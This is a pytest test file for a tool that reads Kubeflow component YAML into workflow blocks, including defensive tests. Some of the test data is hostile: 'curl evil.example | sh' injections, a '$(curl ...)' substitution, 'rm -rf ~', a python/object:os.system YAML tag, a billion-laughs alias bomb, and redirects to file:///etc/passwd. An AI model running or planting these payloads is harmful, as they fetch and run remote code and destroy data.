"""Reading KFP component files into block specs (``designer.userblocks.component_file``).

Every file in ``tests/fixtures/components`` is read into the block it makes (or refused); the
stored component compiles, in a pipeline of KFP's compiler, to the container the file names;
lightweight Python ones really run with ``kfp.local``; broken and hostile files are refused with
a message; a component file is downloaded only where the outbound rules allow.

(No ``from __future__ import annotations``: KFP reads the pipeline functions' annotations.)
"""

import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import yaml
from kfp import compiler, components, dsl
from kfp.dsl import structures

from blocks.base import PORT_TYPES
from designer.userblocks.component_file import (
    KUBEFLOW_ONLY,
    MAX_COMPONENT_CHARS,
    PARAM_TYPE_OF_KFP,
    PARAMETER_PORT,
    PLATFORM_LEFT_OUT,
    PORT_TYPE_OF_TITLE,
    ComponentRead,
    block_name,
    fetch_component,
    load_component_text,
    read_component,
)
from designer.userblocks.spec import MAX_PARAMS, MAX_PORTS, MAX_TEXT_CHARS, MAX_TITLE_CHARS
from tests.fixtures.loopback import LoopbackServer

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "components"


def fixture_text(name: str) -> str:
    return (FIXTURES / name).read_text()


@dataclass(frozen=True)
class Expected:
    """What a fixture reads into: artifact inputs and outputs by name -> type, params by name ->
    (type, default, required). Each param is an input port ``parameter:<KFP type>`` too."""

    kind: str
    name: str
    title: str
    inputs: dict[str, str]
    outputs: dict[str, str]
    params: dict[str, tuple[str, Any, bool]]
    image: str = ""
    function: str = ""
    packages: tuple[str, ...] = ()
    optional_inputs: tuple[str, ...] = ()
    described: dict[str, str] = field(default_factory=dict)


EXPECTED: dict[str, Expected] = {
    "python_count_rows.yaml": Expected(
        kind="python",
        name="count_rows",
        title="count-rows",
        inputs={},
        outputs={"Output": "parameter:NUMBER_INTEGER", "numbers": "Dataset"},
        params={"rows": ("integer", None, True), "start": ("number", 1.0, False)},
        function="count_rows",
        described={"rows": "How many numbers to write.", "start": "The first number."},
    ),
    "python_sum_numbers.yaml": Expected(
        kind="python",
        name="sum_numbers",
        title="sum-numbers",
        inputs={"numbers": "Dataset"},
        outputs={"Output": "parameter:NUMBER_DOUBLE", "total": "Metrics"},
        params={"scale": ("number", 1.0, False)},
        function="sum_numbers",
    ),
    "python_train_forest.yaml": Expected(
        kind="python",
        name="train_forest",
        title="train-forest",
        inputs={"extra": "system.Artifact", "train": "Dataset", "weights": "Dataset"},
        outputs={
            "accuracy": "parameter:NUMBER_DOUBLE",
            "classes": "parameter:LIST",
            "confusion": "ClassificationMetrics",
            "model": "Model",
            "report": "system.HTML",
        },
        params={
            "balanced": ("boolean", False, False),
            "features": ("array", ["age", "income"], False),
            "options": ("object", {"criterion": "gini"}, False),
            "sample": ("number", 0.5, False),
            "target": ("string", None, True),
            "trees": ("integer", 100, False),
        },
        function="train_forest",
        packages=("pandas==2.2.2", "scikit-learn>=1.4"),
        optional_inputs=("weights",),
        described={"train": "The training table.", "target": "The column to predict."},
    ),
    "container_embed_texts.yaml": Expected(
        kind="container",
        name="embed_texts",
        title="embed-texts",
        inputs={"texts": "Dataset"},
        outputs={
            "count": "parameter:NUMBER_INTEGER",
            "stats": "Metrics",
            "vectors": "google.VertexModel",
        },
        params={
            "dims": ("integer", 128, False),
            "model_name": ("string", None, True),
            "tokenizer": ("string", None, False),
        },
        image="ghcr.io/acme/embedder:1.4",
    ),
    "v1_train_classifier.yaml": Expected(
        kind="container",
        name="train_classifier",
        title="Train classifier",
        inputs={"training_data": "system.Artifact", "validation_data": "Dataset"},
        outputs={
            "model": "Model",
            "metrics": "Metrics",
            "accuracy": "parameter:NUMBER_DOUBLE",
            "report": "system.HTML",
        },
        params={
            "label_column": ("string", None, True),
            "learning_rate": ("number", 0.1, False),
            "number_of_trees": ("integer", 100, False),
            "use_gpu": ("boolean", False, False),
            "feature_columns": ("array", ["age", "income"], False),
            "extra_params": ("object", None, False),
        },
        image="registry.example.com/ml/train-classifier:2.3.1",
        optional_inputs=("validation_data",),
        described={
            "training_data": "Table with one row per example.",
            "learning_rate": "Step size shrinkage.",
            "model": "The trained model.",
        },
    ),
    "v1_download_file.yaml": Expected(
        kind="container",
        name="download_file",
        title="Download file",
        inputs={},
        outputs={"data": "system.Artifact", "headers": "system.Artifact"},
        params={"url": ("string", None, True), "retries": ("integer", 3, False)},
        image="curlimages/curl:8.8.0",
    ),
    # Made by the KFP v1 SDK from a Python function: not KFP v2's layout, so a container.
    "v1_python_function.yaml": Expected(
        kind="container",
        name="add_numbers",
        title="Add numbers",
        inputs={},
        outputs={"output": "parameter:NUMBER_DOUBLE"},
        params={"a": ("number", None, True), "b": ("number", 1.0, False)},
        image="python:3.7",
    ),
}
#: Fixtures that make no block, and what the refusal says.
_PIPELINE = "this is a pipeline, not a single component: import it as a flow"
REFUSED_FIXTURES = {"pipeline_count_and_sum.yaml": _PIPELINE, "v1_graph_pipeline.yaml": _PIPELINE}


def test_every_fixture_file_is_in_a_table() -> None:
    assert {p.name for p in FIXTURES.glob("*.yaml")} == set(EXPECTED) | set(REFUSED_FIXTURES)


def test_the_compiled_fixtures_are_what_make_py_writes_now(tmp_path: Path) -> None:
    from tests.fixtures.components import make

    for written in make.write_all(tmp_path):
        assert written.read_text() == fixture_text(written.name), (
            f"{written.name} is stale: run tests/fixtures/components/make.py"
        )


@pytest.mark.parametrize("file_name", sorted(EXPECTED))
def test_a_fixture_reads_into_its_block(file_name: str) -> None:
    expected = EXPECTED[file_name]
    read = read_component(fixture_text(file_name))
    assert read.check.problems == ()
    spec = read.check.spec
    assert spec is not None
    assert (spec.kind, spec.name, spec.title, spec.category) == (
        expected.kind,
        expected.name,
        expected.title,
        "custom",
    )
    artifacts = [p for p in spec.inputs if not p.type.startswith(PARAMETER_PORT)]
    assert {p.name: p.type for p in artifacts} == expected.inputs
    assert {p.name: p.type for p in spec.outputs} == expected.outputs
    assert {p.name: (p.type, p.default, p.required) for p in spec.params} == expected.params
    assert tuple(p.name for p in artifacts if p.optional) == expected.optional_inputs
    # Every setting can be fed by an edge as well: an optional input port of its KFP type.
    kfp_type_of = {schema: kfp for kfp, schema in PARAM_TYPE_OF_KFP.items()}
    assert {p.name: (p.type, p.optional) for p in spec.inputs if p not in artifacts} == {
        name: (f"{PARAMETER_PORT}{kfp_type_of[kind]}", True)
        for name, (kind, _default, _required) in expected.params.items()
    }
    assert (spec.image, spec.function, spec.packages) == (
        expected.image,
        expected.function,
        expected.packages,
    )
    descriptions = {p.name: p.description for p in (*spec.inputs, *spec.outputs, *spec.params)}
    for name, description in expected.described.items():
        assert descriptions[name] == description
    assert spec.description and "Args:" not in spec.description
    assert spec.engines == (("local", "kubeflow") if expected.kind == "python" else ("kubeflow",))
    assert (KUBEFLOW_ONLY in spec.notes) == (expected.kind == "container")
    assert "runs on kubeflow only" in " ".join(spec.notes).lower() or expected.kind == "python"
    values = [p.name for p in spec.outputs if p.type.startswith("parameter:")]
    assert any("connects only to an input of the same kind" in n for n in spec.notes) == bool(
        values
    )
    if expected.kind == "python":
        assert f"def {expected.function}(" in read.source
        assert read.source.startswith("\nimport kfp")
    else:
        assert read.source == ""
    # The spec is plain data: it round-trips through JSON, as the store keeps it.
    assert type(spec).from_json(spec.to_json()) == spec


@pytest.mark.parametrize("file_name", sorted(REFUSED_FIXTURES))
def test_a_pipeline_fixture_is_refused(file_name: str) -> None:
    read = read_component(fixture_text(file_name))
    assert read == ComponentRead(read.check)
    assert [p.message for p in read.check.problems] == [REFUSED_FIXTURES[file_name] + " instead"]
    assert read.check.problems[0].line > 0


def test_known_artifact_titles_are_our_port_types() -> None:
    assert PORT_TYPE_OF_TITLE == {
        "system.Dataset": "Dataset",
        "system.Model": "Model",
        "system.Metrics": "Metrics",
        "system.ClassificationMetrics": "ClassificationMetrics",
    }
    assert set(PORT_TYPE_OF_TITLE.values()) <= set(PORT_TYPES)


def test_v1_types_kfp_reads_as_artifact_are_noted() -> None:
    spec = read_component(fixture_text("v1_download_file.yaml")).check.spec
    assert spec is not None
    assert any("'data' (no type)" in n and "'headers' (acme.HttpHeaders)" in n for n in spec.notes)


# -- the stored component compiles to the file's container -----------------------------------


def _pipeline_ir(component: Any) -> dict[str, Any]:
    """The IR of a one-task pipeline using ``component``, its required inputs fed (artifacts
    by an importer of the generic type, which KFP lets feed any artifact input)."""
    spec: structures.ComponentSpec = component.component_spec
    samples = {"String": "x", "Integer": 1, "Float": 1.5, "Boolean": True, "List": [], "Dict": {}}
    arguments: dict[str, Any] = {}

    @dsl.pipeline(name="uses-the-component")
    def uses() -> None:
        for name, given in (spec.inputs or {}).items():
            if given.optional:
                continue
            if structures.spec_type_is_parameter(given.type):
                arguments[name] = samples[given.type]
            else:
                arguments[name] = dsl.importer(
                    artifact_uri=f"gs://bucket/{name}", artifact_class=dsl.Artifact
                ).output
        component(**arguments)

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "pipeline.yaml"
        compiler.Compiler().compile(uses, str(path))
        return yaml.safe_load(path.read_text())


def _containers(ir: dict[str, Any]) -> list[dict[str, Any]]:
    """image, command and args of every executor that runs a container."""
    executors = ir["deploymentSpec"]["executors"].values()
    return [
        {key: e["container"].get(key) for key in ("image", "command", "args")}
        for e in executors
        if "container" in e
    ]


@pytest.mark.parametrize("file_name", sorted(EXPECTED))
def test_the_stored_component_compiles_to_the_files_container(file_name: str) -> None:
    original = fixture_text(file_name)
    read = read_component(original)
    compiled = _containers(_pipeline_ir(load_component_text(read.component_yaml)))
    if file_name.startswith("v1_"):
        # A v1 file's placeholders ({inputValue: ...}) are KFP's to translate: as KFP compiles
        # the file itself.
        expected = _containers(_pipeline_ir(components.load_component_from_text(original)))
    else:
        expected = _containers(yaml.safe_load(original))
    assert compiled == expected
    assert len(compiled) == 1


def test_v1_placeholders_become_kfp_v2_ones() -> None:
    read = read_component(fixture_text("v1_train_classifier.yaml"))
    [container] = _containers(_pipeline_ir(load_component_text(read.component_yaml)))
    assert container["image"] == "registry.example.com/ml/train-classifier:2.3.1"
    assert container["command"] == ["python3", "/app/train.py"]
    args = container["args"]
    assert args[:4] == [
        "--train",
        "{{$.inputs.artifacts['training_data'].path}}",
        "--label",
        "{{$.inputs.parameters['label_column']}}",
    ]
    assert "{{$.outputs.parameters['accuracy'].output_file}}" in args
    assert any("IfPresent" in a and "extra_params" in a for a in args)
    assert any("Concat" in a and "model" in a for a in args)


@pytest.mark.parametrize("file_name", sorted(EXPECTED))
def test_reading_the_stored_component_again_makes_the_same_block(file_name: str) -> None:
    first = read_component(fixture_text(file_name))
    again = read_component(first.component_yaml)
    assert first.check.spec is not None and again.check.spec is not None
    a, b = first.check.spec, again.check.spec

    def shape(spec: Any) -> tuple[Any, ...]:
        return (
            spec.kind,
            spec.name,
            sorted((p.name, p.type, p.optional) for p in spec.inputs),
            sorted((p.name, p.type) for p in spec.outputs),
            sorted((p.name, p.type, repr(p.default), p.required) for p in spec.params),
            spec.function,
            spec.packages,
            spec.image,
        )

    assert shape(a) == shape(b)
    assert again.source == first.source
    assert again.component_yaml == first.component_yaml


@pytest.mark.slow
def test_python_components_run_locally_from_their_stored_text(tmp_path: Path) -> None:
    from kfp import local

    count_rows = load_component_text(
        read_component(fixture_text("python_count_rows.yaml")).component_yaml
    )
    sum_numbers = load_component_text(
        read_component(fixture_text("python_sum_numbers.yaml")).component_yaml
    )

    @dsl.pipeline(name="count-then-sum")
    def count_then_sum(rows: int = 4) -> float:
        counted = count_rows(rows=rows, start=2.0)
        return sum_numbers(numbers=counted.outputs["numbers"], scale=10.0).outputs["Output"]

    local.init(runner=local.SubprocessRunner(use_venv=False), pipeline_root=str(tmp_path))
    task = count_then_sum(rows=3)
    assert task.output == pytest.approx((2.0 + 3.0 + 4.0) * 10.0)


# -- which containers are KFP's lightweight Python components --------------------------------


def _mutated(file_name: str, change: Callable[[dict[str, Any]], None]) -> str:
    document = yaml.safe_load(fixture_text(file_name))
    change(document)
    return yaml.safe_dump(document, sort_keys=True)


def _container_of(document: dict[str, Any]) -> dict[str, Any]:
    [executor] = document["deploymentSpec"]["executors"].values()
    return executor["container"]


def _launcher(document: dict[str, Any], edit: Callable[[str], str]) -> None:
    command = _container_of(document)["command"]
    command[-2] = edit(command[-2])


def _prelude(script: str) -> Callable[[dict[str, Any]], None]:
    def change(document: dict[str, Any]) -> None:
        container = _container_of(document)
        container["command"] = ["sh", "-c", script, *container["command"][-4:]]

    return change


_KFP_PRELUDE = (
    '\nif ! [ -x "$(command -v pip)" ]; then\n    python3 -m ensurepip || python3 -m ensurepip '
    "--user || apt-get install python3-pip\nfi\n\nPIP_DISABLE_PIP_VERSION_CHECK=1 {installs} && "
    '"$0" "$@"\n'
)
_PIP = "python3 -m pip install --quiet --no-warn-script-location"
_VENV = (
    '\nexport PIP_DISABLE_PIP_VERSION_CHECK=1\ntmp=$(mktemp -d)\npython3 -m venv "$tmp/venv" '
    '--system-site-packages\n. "$tmp/venv/bin/activate"\n'
)


@pytest.mark.parametrize(
    ("case", "change", "packages"),
    [
        ("as compiled", lambda d: None, ("pandas==2.2.2", "scikit-learn>=1.4")),
        (
            "index urls",
            _prelude(
                _KFP_PRELUDE.format(
                    installs=f"{_PIP} --index-url https://pypi.example/simple --trusted-host "
                    "https://pypi.example/simple 'polars' 'numpy<3'"
                )
            ),
            ("polars", "numpy<3"),
        ),
        (
            "kfp in a venv",
            _prelude(
                _KFP_PRELUDE.format(
                    installs=f"{_PIP} 'rich'  &&  {_VENV} {_PIP} 'kfp==2.17.0' '--no-deps' "
                    "'typing-extensions>=3.7.4,<5; python_version<\"3.9\"'"
                )
            ),
            ("rich",),
        ),
        (
            "kfp among the person's packages",
            _prelude(_KFP_PRELUDE.format(installs=f"{_PIP} 'kfp>=2' 'Pillow'")),
            ("Pillow",),
        ),
    ],
)
def test_the_packages_of_a_python_component(
    case: str, change: Callable[[dict[str, Any]], None], packages: tuple[str, ...]
) -> None:
    spec = read_component(_mutated("python_train_forest.yaml", change)).check.spec
    assert spec is not None and spec.kind == "python", case
    assert spec.packages == packages


@pytest.mark.parametrize(
    ("case", "change"),
    [
        (
            "another command after the install",
            _prelude(_KFP_PRELUDE.format(installs=f"{_PIP} 'pandas' ; curl evil.example | sh")),
        ),
        (
            "a command substitution in a package",
            _prelude(_KFP_PRELUDE.format(installs=f'{_PIP} "$(curl evil.example)"')),
        ),
        (
            "a redirection",
            _prelude(_KFP_PRELUDE.format(installs=f"{_PIP} 'pandas' > /etc/motd")),
        ),
        ("another program before pip", _prelude(_KFP_PRELUDE.format(installs="rm -rf ~"))),
        ("a script of its own before the program", _prelude('echo hi && "$0" "$@"')),
        (
            "a launcher that does more",
            lambda d: _launcher(d, lambda text: "curl evil.example | sh\n" + text),
        ),
        (
            "another executor",
            lambda d: _launcher(d, lambda text: text.replace("kfp.dsl.executor_main", "evil")),
        ),
        (
            "other arguments",
            lambda d: _container_of(d)["args"].extend(["--extra", "x"]),
        ),
        (
            "something after the program",
            lambda d: _container_of(d)["command"].append("--more"),
        ),
    ],
)
def test_only_kfps_own_layout_is_a_python_block(
    case: str, change: Callable[[dict[str, Any]], None]
) -> None:
    read = read_component(_mutated("python_train_forest.yaml", change))
    spec = read.check.spec
    assert spec is not None, (case, read.check.problems)
    assert (spec.kind, spec.image, read.source) == ("container", "python:3.11-slim", ""), case
    assert KUBEFLOW_ONLY in spec.notes


# -- refusals ----------------------------------------------------------------------------------


def _v1(**fields: Any) -> str:
    document: dict[str, Any] = {
        "name": "Tiny",
        "inputs": [],
        "outputs": [],
        "implementation": {"container": {"image": "alpine:3", "command": ["true"]}},
    }
    document.update(fields)
    return yaml.safe_dump(document, sort_keys=False)


def _v2(change: Callable[[dict[str, Any]], None]) -> str:
    return _mutated("container_embed_texts.yaml", change)


def _definitions(document: dict[str, Any]) -> dict[str, Any]:
    return document["components"]["comp-embed-texts"]["inputDefinitions"]


def _drop_program_function(document: dict[str, Any]) -> None:
    _container_of(document)["args"][-1] = "not_there"


def _break_program(document: dict[str, Any]) -> None:
    _container_of(document)["command"][-1] = "def count_rows(:\n"


_BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)
)

REFUSALS: list[tuple[str, str, str, int]] = [
    # (case, text, what the message says, its line: 0 when it has none)
    ("empty", "", "the file is empty", 0),
    ("blank", "  \n\n", "the file is empty", 0),
    ("too big", "#" * (MAX_COMPONENT_CHARS + 1), "a component file may have at most", 0),
    ("bad YAML", "name: x\ninputs: [1, 2\n", "this is not valid YAML", 3),
    ("a tab", "name: x\n\tinputs: []\n", "this is not valid YAML", 2),
    ("a control character", "name: x\x01\n", "this is not valid YAML", 1),
    ("a python tag", "name: !!python/object:os.system x\n", "this is not valid YAML", 1),
    ("a string", "just some words\n", "this file holds a string", 1),
    ("a list", "- name: x\n", "this file holds a list", 1),
    ("only a comment", "# nothing\n", "this file holds nothing", 1),
    ("neither format", "name: x\ninputs: []\n", "this is not a KFP component", 1),
    (
        "some of the IR",
        "pipelineInfo: {name: x}\nroot: {}\n",
        "lacks components, deploymentSpec",
        1,
    ),
    ("deep nesting", "a: " + "[" * 200 + "]" * 200, "nests lists and mappings more than", 1),
    ("aliases", _BILLION_LAUGHS, "each YAML alias, *name, counted as a copy", 0),
    ("an alias loop", "a: &a [*a]\nimplementation: {}\n", "each YAML alias, *name, counted", 0),
    (
        "a huge number",
        "name: 1" + "0" * 5000 + "\n",
        "this is not valid YAML: Exceeds the limit",
        0,
    ),
    ("three documents", "a: 1\n---\nb: 2\n---\nc: 3\n", "this one holds more", 4),
    (
        "a second document that is no mapping",
        fixture_text("container_embed_texts.yaml") + "---\n- x\n",
        "platform settings, a mapping; this one holds a list",
        len(fixture_text("container_embed_texts.yaml").splitlines()) + 2,
    ),
    ("no image", _v1(implementation={"container": {"command": ["true"]}}), "names no image", 5),
    ("empty image", _v1(implementation={"container": {"image": " "}}), "names no image", 6),
    ("no container", _v1(implementation={"python": {}}), "must hold a container:", 4),
    ("no name", _v1(name=None), "the component has no name", 1),
    ("a name without letters", _v1(name="123 !!!"), "has no letter to make a block name", 1),
    ("a long name", _v1(name="n" * (MAX_TITLE_CHARS + 1)), "name is longer than", 1),
    (
        "a long description",
        _v1(description="d" * (MAX_TEXT_CHARS + 1)),
        "description is longer than",
        0,
    ),
    (
        "a long input description",
        _v1(inputs=[{"name": "x", "type": "String", "description": "d" * (MAX_TEXT_CHARS + 1)}]),
        "the text of parameter 'x' is longer than",
        0,
    ),
    (
        "names KFP merges",
        _v1(inputs=[{"name": "Learning rate", "type": "Float"}, {"name": "learning_rate"}]),
        "inputs 'Learning rate' and 'learning_rate' both become 'learning_rate'",
        5,
    ),
    (
        "a name starting with a digit",
        _v1(inputs=[{"name": "1st table", "type": "Dataset"}]),
        "input name '1st_table' must start with a letter",
        3,
    ),
    (
        "an integer default that is no number",
        _v1(inputs=[{"name": "n", "type": "Integer", "default": "many"}]),
        "KFP cannot read this component: invalid literal for int()",
        0,
    ),
    (
        "too many ports",
        _v1(inputs=[{"name": f"t{i}", "type": "Dataset"} for i in range(MAX_PORTS + 1)]),
        f"the component has {MAX_PORTS + 1} ports (inputs and outputs); a block may have at most",
        0,
    ),
    (
        "too many parameters",
        _v1(inputs=[{"name": f"p{i}", "type": "String"} for i in range(MAX_PARAMS + 1)]),
        f"the component has {MAX_PARAMS + 1} parameters; a block may have at most {MAX_PARAMS}",
        0,
    ),
    (
        "an exit handler's input",
        _v1(inputs=[{"name": "status", "type": "PipelineTaskFinalStatus"}]),
        "only to exit handlers and task settings",
        3,
    ),
    (
        "a list of artifacts",
        _v2(
            lambda d: _definitions(d)["artifacts"]["texts"].update(isArtifactList=True),
        ),
        "input 'texts' is a list of artifacts",
        6,
    ),
    (
        "an unknown parameter type",
        _v2(lambda d: _definitions(d)["parameters"]["dims"].update(parameterType="COMPLEX")),
        "KFP cannot read this component: Unknown type COMPLEX found in IR",
        0,
    ),
    (
        "a default of the wrong type",
        _v2(lambda d: _definitions(d)["parameters"]["model_name"].update(defaultValue=3)),
        "parameter 'model_name' is of type string but its default is 3",
        15,
    ),
    (
        "a whole-number parameter with a fraction",
        _v2(lambda d: _definitions(d)["parameters"]["dims"].update(defaultValue=1.5)),
        "parameter 'dims' is of type integer but its default is 1.5",
        11,
    ),
    (
        "an artifact type outside KFP's namespaces",
        _v2(
            lambda d: _definitions(d)["artifacts"]["texts"]["artifactType"].update(
                schemaTitle="acme.Table"
            )
        ),
        "must belong to `system` or `google` namespace",
        0,
    ),
    (
        "a pipeline of one task named apart from its component",
        _mutated(
            "pipeline_count_and_sum.yaml",
            lambda d: d["root"]["dag"]["tasks"].pop("sum-numbers"),
        ),
        "this is a pipeline, not a single component",
        0,
    ),
    (
        "a program without the function",
        _mutated("python_count_rows.yaml", _drop_program_function),
        "the component calls not_there(), which its Python program does not define",
        0,
    ),
    (
        "a program that does not parse",
        _mutated("python_count_rows.yaml", _break_program),
        "the component's Python program does not parse",
        0,
    ),
]


@pytest.mark.parametrize(
    ("case", "text", "said", "line"), REFUSALS, ids=[case for case, *_ in REFUSALS]
)
def test_a_file_that_makes_no_block_is_refused(case: str, text: str, said: str, line: int) -> None:
    read = read_component(text)
    assert read.check.spec is None and read.component_yaml == "" and read.source == ""
    messages = [p.message for p in read.check.problems]
    assert any(said in m for m in messages), messages
    problem = next(p for p in read.check.problems if said in p.message)
    if line:
        assert problem.line == line, str(problem)
    assert "Traceback" not in " ".join(messages)


def test_every_problem_of_a_file_is_listed_at_once() -> None:
    text = _v1(
        name="!!!",
        inputs=[
            {"name": "1st", "type": "Dataset"},
            {"name": "n", "type": "Integer", "default": "2"},
            {"name": "status", "type": "PipelineTaskFinalStatus"},
        ],
    )
    messages = [p.message for p in read_component(text).check.problems]
    assert len(messages) == 3
    assert "input name '1st' must start with a letter" in messages[0]
    assert "exit handlers" in messages[1]
    assert "no letter" in messages[2]


def test_platform_settings_are_left_out_with_a_note() -> None:
    platform = {"platforms": {"kubernetes": {"deploymentSpec": {"executors": {}}}}}
    text = fixture_text("container_embed_texts.yaml") + "---\n" + yaml.safe_dump(platform)
    read = read_component(text)
    assert read.check.spec is not None
    assert PLATFORM_LEFT_OUT in read.check.spec.notes
    assert "platforms" not in read.component_yaml
    alone = read_component(fixture_text("container_embed_texts.yaml"))
    assert read.component_yaml == alone.component_yaml


def test_a_non_string_is_refused_not_raised() -> None:
    read = read_component(b"name: x")  # type: ignore[arg-type]
    assert read.check.problems[0].message == "a component file is text (YAML)"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Train classifier", "train_classifier"),
        ("embed-texts", "embed_texts"),
        ("Café crème v2", "cafe_creme_v2"),
        ("  2nd -- try!  ", "nd_try"),
        ("日本語", ""),
        ("x" * 100, "x" * 64),
    ],
)
def test_block_names(title: str, name: str) -> None:
    assert block_name(title) == name


# -- downloading -------------------------------------------------------------------------------


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        """Quiet: the test says what went wrong."""

    def do_GET(self) -> None:
        server: _ComponentServer = self.server.context  # type: ignore[attr-defined]
        server.requests.append(self.path)
        status, headers, body = server.routes.get(self.path, (404, {}, b"no such file"))
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        if "Content-Length" not in headers and status != 200:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class _ComponentServer(LoopbackServer):
    """Answers each path from ``routes`` (status, headers, body); 404 otherwise."""

    handler = _Handler

    def __init__(self, routes: dict[str, tuple[int, dict[str, str], bytes]]) -> None:
        super().__init__()
        self.routes = routes
        self.requests: list[str] = []


LOOPBACK = ("127.0.0.0/8",)


@pytest.fixture
def server() -> Any:
    component = fixture_text("v1_download_file.yaml").encode()
    routes = {
        "/component.yaml": (200, {"Content-Length": str(len(component))}, component),
        "/unsized.yaml": (200, {"Connection": "close"}, component),
        "/moved": (302, {"Location": "/component.yaml"}, b""),
        "/to-private": (302, {"Location": "http://10.1.2.3/component.yaml"}, b""),
        "/to-file": (302, {"Location": "file:///etc/passwd"}, b""),
        "/loop": (302, {"Location": "/loop"}, b""),
        "/big": (200, {"Content-Length": "5000"}, b"x" * 5000),
        "/big-unsized": (200, {"Connection": "close"}, b"x" * 5000),
        "/latin1": (200, {"Content-Length": "7"}, "name: é".encode("latin-1") + b"\n"),
    }
    with _ComponentServer(routes) as running:
        yield running


def test_a_component_file_downloads_where_the_rules_allow(server: _ComponentServer) -> None:
    for path in ("/component.yaml", "/unsized.yaml", "/moved"):
        text = fetch_component(server.base_url + path, allowed_networks=LOOPBACK)
        assert text == fixture_text("v1_download_file.yaml")
    assert read_component(text).check.ok


def test_loopback_is_refused_unless_allowed(server: _ComponentServer) -> None:
    with pytest.raises(ValueError, match="is this computer \\(loopback\\)"):
        fetch_component(server.base_url + "/component.yaml")
    with pytest.raises(ValueError, match="DESIGNER_ALLOWED_NETWORKS"):
        fetch_component(server.base_url.replace("127.0.0.1", "localhost") + "/component.yaml")
    assert server.requests == []


@pytest.mark.parametrize(
    ("path", "said"),
    [
        ("/to-private", "10.1.2.3 is a private network address"),
        ("/loop", "redirects more than 5 times"),
        ("/to-file", "redirects to an address that is not on the web"),
        ("/big", "is larger than 1,000 bytes"),
        ("/big-unsized", "is larger than 1,000 bytes"),
        ("/missing.yaml", "answered HTTP 404"),
        ("/latin1", "is not UTF-8 text"),
    ],
)
def test_a_download_that_fails_says_why(server: _ComponentServer, path: str, said: str) -> None:
    with pytest.raises(ValueError, match=said.replace("(", "\\(")):
        fetch_component(server.base_url + path, max_bytes=1000, allowed_networks=LOOPBACK)


@pytest.mark.parametrize(
    "address",
    ["file:///etc/passwd", "/etc/passwd", "s3://bucket/c.yaml", "ftp://example.com/c.yaml", ""],
)
def test_only_web_addresses_are_downloaded(address: str) -> None:
    with pytest.raises(ValueError, match="give the http:// or https:// address"):
        fetch_component(address)


def test_a_server_that_does_not_answer(server: _ComponentServer) -> None:
    closed = server.base_url.rsplit(":", 1)[0] + ":1/component.yaml"
    with pytest.raises(ValueError, match="could not download"):
        fetch_component(closed, allowed_networks=LOOPBACK, timeout=2)
